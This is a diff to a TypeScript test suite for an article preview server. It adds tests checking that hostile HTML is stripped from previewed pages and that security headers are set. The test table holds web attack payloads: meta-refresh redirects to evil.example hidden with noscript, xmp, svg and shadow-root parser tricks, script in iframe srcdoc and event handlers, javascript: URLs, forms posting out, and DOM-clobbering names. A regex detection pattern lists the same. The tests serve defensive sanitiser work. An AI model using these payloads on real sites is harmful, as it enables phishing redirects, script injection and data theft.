@@ -20,8 +20,13 @@ async function preview(files: Files = {}, article = ['article.txt', 'Two <neighb
   const dist = emptyFolder();
   writeFileSync(join(dist, 'article-context.js'), 'export {};');
   writeFileSync(join(dist, 'secret.txt'), 'secret');
-  const interruptibly = <T>(work: () => T): T => work();
-  const started = await startPreview({ folder, article: join(folder, name), dist, port: 0, cwd: folder, interruptibly });
+  const started = await startPreview({
+    folder,
+    article: join(folder, name),
+    dist,
+    port: 0,
+    cwd: folder,
+  });
   running.push(started);
   return { folder, url: started.url };
 }
@@ -129,7 +134,70 @@ describe('the preview', () => {
 
   it('the preview cannot start without the widget', async () => {
     const { folder } = writeFolder();
-    const options = { folder, article: join(folder, 'sources.yaml'), dist: folder, port: 0, cwd: folder, interruptibly: <T>(work: () => T): T => work() };
+    const options = {
+      folder,
+      article: join(folder, 'sources.yaml'),
+      dist: folder,
+      port: 0,
+      cwd: folder,
+    };
     await expect(startPreview(options)).rejects.toThrow('no article-context.js');
+  });
+});
+
+describe('an article of somebody’s page in the preview', () => {
+  const hostile: Readonly<Record<string, string>> = {
+    'a refresh': '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
+    'a refresh in a shadow root':
+      '<div><template shadowrootmode="open"><meta http-equiv="refresh" content="0;url=https://evil.example/"></template></div>',
+    'a refresh behind a title that ends a noscript':
+      '<noscript><p title="</noscript><meta http-equiv=refresh content=0;url=https://evil.example/>"></p></noscript>',
+    'a refresh that raw text hides':
+      '<xmp><p title="</xmp><meta http-equiv=refresh content=0;url=https://evil.example/>"></xmp><plaintext><meta http-equiv=refresh>',
+    'a refresh in a drawing':
+      '<svg><foreignObject><meta http-equiv="refresh" content="0;url=https://evil.example/"></foreignObject><style><img title="</style><meta http-equiv=refresh>"></style></svg>',
+    'a frame':
+      '<iframe src="https://evil.example/" srcdoc="<script>alert(1)</script>"></iframe><frame><object data="https://evil.example/"></object><embed src=x>',
+    'a form that sends':
+      '<form action="https://evil.example/" name="body"><input name="querySelector" autofocus><button formaction="https://evil.example/">x</button></form>',
+    'code in attributes':
+      '<p onclick="alert(1)" onfocus="alert(1)" tabindex="0">x</p><a href="javascript:alert(1)" ping="https://evil.example/">x</a><a href=" java&#10;script:alert(1)">x</a>',
+    'a base': '<base href="https://evil.example/"><link rel="preconnect" href="https://evil.example/">',
+    'pictures from elsewhere':
+      '<img src="https://evil.example/a.png" srcset="https://evil.example/b.png 2x" name="getElementById"><video poster="https://evil.example/c.png"></video>',
+    'elements of the widget':
+      '<article-context dossier="https://evil.example/"></article-context><article-context-mark>x</article-context-mark>',
+    'elements that nobody knows yet':
+      '<fencedframe src="https://evil.example/"></fencedframe><newthing src="https://evil.example/" href2="https://evil.example/">x</newthing>',
+  };
+
+  it.each(Object.entries(hostile))(
+    'the preview leaves out of an article %s, and keeps the words around it',
+    async (_, html) => {
+      const { url } = await preview({}, ['a.html', `<main><p>Before Armenia.</p>${html}<p>After.</p></main>`]);
+      const page = await get(url);
+      const shown = page.slice(page.indexOf('<div class="article"'));
+      expect(shown).toContain('Before Armenia.');
+      expect(shown).not.toMatch(
+        /evil\.example|<(?:meta|template|script|iframe|frame|object|embed|base|link|input|noscript|svg|style|xmp|plaintext|article-context)\b|javascript:|\son\w+=|\bname=/iu,
+      );
+    },
+  );
+
+  it('the preview keeps what the widget reads of an article: what is hidden, its language, its links and marks of words', async () => {
+    const html =
+      '<main><p lang="hy" class="a" style="display: none" hidden aria-label="b">x</p><a href="https://example.org/">y</a><ins>z</ins><o:p>w</o:p></main>';
+    const { url } = await preview({}, ['a.html', html]);
+    expect(await get(url)).toContain(
+      '<p lang="hy" class="a" style="display: none" hidden aria-label="b">x</p><a href="https://example.org/">y</a><ins>z</ins><o:p>w</o:p>',
+    );
+  });
+
+  it('the preview cannot be shown in a frame, read by another page, or written to', async () => {
+    const { url } = await preview();
+    const { headers } = await fetch(url);
+    expect(headers.get('content-security-policy')).toContain("frame-ancestors 'none'");
+    expect(headers.get('cross-origin-resource-policy')).toBe('same-origin');
+    expect((await fetch(url, { method: 'POST', body: 'x' })).status).toBe(405);
   });
 });
